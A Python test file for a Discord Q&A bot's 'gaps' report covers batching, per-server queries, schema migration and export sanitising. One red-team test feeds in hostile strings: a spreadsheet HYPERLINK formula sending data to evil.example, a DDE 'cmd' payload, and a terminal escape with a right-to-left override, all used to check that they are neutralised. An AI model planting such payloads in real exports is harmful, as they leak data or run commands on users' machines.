"""Gaps stay bounded and inert whatever members send: a capped, windowed query in the store, batched encoding,
chit-chat left out, one server's questions kept to that server, and exports that can't run formulas or
terminal escapes (red-team t19, t21)."""

from __future__ import annotations

import csv
import dataclasses
import io
import sqlite3
import time

from bot import cli
from bot.core.answer import DeclineKind
from bot.index import encoders as encoder_module
from bot.storage.answers import Store
from bot.storage.gaps import ENCODE_BATCH, MAX_QUESTION_CHARS, Gap, Miss, gaps_csv, gaps_text, group_misses, printable
from bot.storage.schema import SCHEMA_VERSION

from .conftest import FakeEncoder
from .discord_support import fake_resources, make_project


class BatchRecordingEncoder(FakeEncoder):
    def __init__(self) -> None:
        super().__init__()
        self.batches: list[list[str]] = []

    def encode_queries(self, texts):
        self.batches.append(list(texts))
        return super().encode_queries(texts)


def test_grouping_many_long_questions_encodes_in_bounded_batches():
    """t21: 400 questions of 300 words were one ONNX batch (7.2 GB); now batches of ENCODE_BATCH, cut to 300 chars."""
    now = time.time()
    misses = [Miss("How do I " + " ".join(f"bread{i}x{j}" for j in range(300)) + "?", now - i, "declined", i)
              for i in range(400)]
    encoder = BatchRecordingEncoder()
    gaps = group_misses(misses, encoder)
    assert sum(len(b) for b in encoder.batches) == 400
    assert max(len(b) for b in encoder.batches) == ENCODE_BATCH and len(encoder.batches) == 7
    assert max(len(text) for batch in encoder.batches for text in batch) == MAX_QUESTION_CHARS
    assert sum(g.count for g in gaps) == 400
    assert sorted(i for g in gaps for i in g.answer_ids) == list(range(400))


def test_gaps_group_similar_questions_and_remember_the_latest_message():
    now = time.time()
    misses = [Miss("pizza recipe with cheese", now - 30, "declined", 1, 10, 20, 30),
              Miss("pizza recipe with cheese?", now - 10, "declined", 2, 10, 20, 31),
              Miss("pizza recipe cheese", now - 5, "not helpful", 3, 10, 21, None),
              Miss("weather in tokyo today", now - 20, "declined", 4, 10, 20, 32)]
    groups = group_misses(misses, FakeEncoder())
    assert [g.count for g in groups] == [3, 1]
    pizza = groups[0]
    assert pizza.declined == 2 and pizza.not_helpful == 1 and pizza.last_asked == now - 5
    assert pizza.latest == misses[2] and sorted(pizza.answer_ids) == [1, 2, 3]


def record(store: Store, answerer, question: str, *, guild_id: int = 1, decline: str | None = None,
           asked_at: float | None = None) -> int:
    answer = answerer.answer(question)
    if decline is not None:
        answer = dataclasses.replace(answer, answered=False, decline=decline)
    answer_id = store.record_answer(answer, "mention", guild_id=guild_id, channel_id=2, user_id=3, message_id=4)
    if asked_at is not None:
        with store._lock:
            store._db.execute("UPDATE answers SET asked_at = ? WHERE id = ?", (asked_at, answer_id))
    return answer_id


def test_the_store_reads_the_newest_misses_of_one_server_without_chit_chat_or_closed_gaps(tmp_path):
    config = make_project(tmp_path)
    answerer = fake_resources(config).answerer
    store = Store(config.database_path)
    now = time.time()
    pizza = [record(store, answerer, f"pizza recipe number {i}", asked_at=now - i) for i in range(10)]
    record(store, answerer, "thanks a lot", decline=DeclineKind.CHITCHAT)
    record(store, answerer, "tokyo weather", guild_id=99)
    closed = record(store, answerer, "garden roses")
    assert store.close_gap([closed]) == 1 and store.close_gap([closed]) == 0
    helped = record(store, answerer, "Who organised the call?")
    store.record_feedback(helped, user_id=8, helpful=False)

    mine = store.misses(guild_id=1)
    assert {m.question for m in mine} == {*(f"pizza recipe number {i}" for i in range(10)), "Who organised the call?"}
    assert {m.reason for m in mine if m.answer_id == helped} == {"not helpful"}
    newest = store.misses(guild_id=1, limit=3)
    assert [m.answer_id for m in newest] == [helped, pizza[0], pizza[1]]
    windowed = store.misses(guild_id=1, since=now - 4.5)
    assert {m.answer_id for m in windowed} == {helped, *pizza[:5]}
    assert {m.question for m in store.misses()} >= {"tokyo weather"}  # the CLI report sees every server


def test_report_csv_neutralises_formulas_and_the_text_report_control_characters(project, config, capsys, monkeypatch):
    """t19: a question starting with = + - @ would run as a spreadsheet formula."""
    monkeypatch.setattr(encoder_module, "load_encoder", lambda c: FakeEncoder())
    answerer = fake_resources(config).answerer
    store = Store(config.database_path)
    hostile = ['=HYPERLINK("https://evil.example/x?d="&A1,"Click")', "+cmd|' /C calc'!A0 recipes",
               "-2+3 pizza", "@SUM(1+1) weather tomorrow", "\x1b]0;pwned\x07 bread \u202egnp.exe"]
    for question in hostile:
        record(store, answerer, question)
    assert cli.main(["report", "--csv", "--config", str(project / "config.yaml")]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == len(hostile)
    for row in rows:
        assert row["question"][:1] not in "=+-@" and row["examples"][:1] not in "=+-@"
    assert any(row["question"] == "'" + hostile[0] for row in rows)
    assert cli.main(["report", "--config", str(project / "config.yaml")]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out and "]0;pwned bread" in out


def test_csv_and_text_helpers():
    gap = Gap(question="=1+1", count=1, last_asked=0.0, examples=["=1+1", "@x"])
    assert gaps_csv([gap]).splitlines()[1].startswith("'=1+1,1,")
    assert printable("a\nb\u2028c\u200bd") == "a\\u000ab\\u2028c\\u200bd"
    assert "\n" not in gaps_text([dataclasses.replace(gap, question="two\nlines")]).splitlines()[1][-12:]


def test_an_old_database_is_brought_up_to_date(tmp_path):
    """A database written before the schema module (version 1 tables, no user_version) gains the new columns."""
    path = tmp_path / "bot.sqlite3"
    with sqlite3.connect(path) as db:
        db.executescript("""
            CREATE TABLE answers (id INTEGER PRIMARY KEY AUTOINCREMENT, asked_at REAL NOT NULL, question TEXT NOT NULL,
              answered INTEGER NOT NULL, confidence REAL NOT NULL, passages TEXT NOT NULL, via TEXT NOT NULL,
              guild_id INTEGER, channel_id INTEGER, user_id INTEGER, index_version TEXT NOT NULL);
            INSERT INTO answers (asked_at, question, answered, confidence, passages, via, index_version)
              VALUES (1.0, 'old question', 0, 0.1, '', 'slash', 'v1');""")
    store = Store(path)
    assert [m.question for m in store.misses()] == ["old question"]
    store.close()
    with sqlite3.connect(path) as db:
        columns = {row[1] for row in db.execute("PRAGMA table_info(answers)")}
        assert {"message_id", "decline", "gap_closed_at"} <= columns
        assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
        assert {"guild_settings", "audit", "feedback"} <= {r[0] for r in db.execute("SELECT name FROM sqlite_master")}


def test_a_database_from_a_newer_bot_is_refused(tmp_path):
    import pytest

    from bot.errors import UserFacingError

    path = tmp_path / "bot.sqlite3"
    with sqlite3.connect(path) as db:
        db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    with pytest.raises(UserFacingError, match="newer redlines-bot"):
        Store(path)
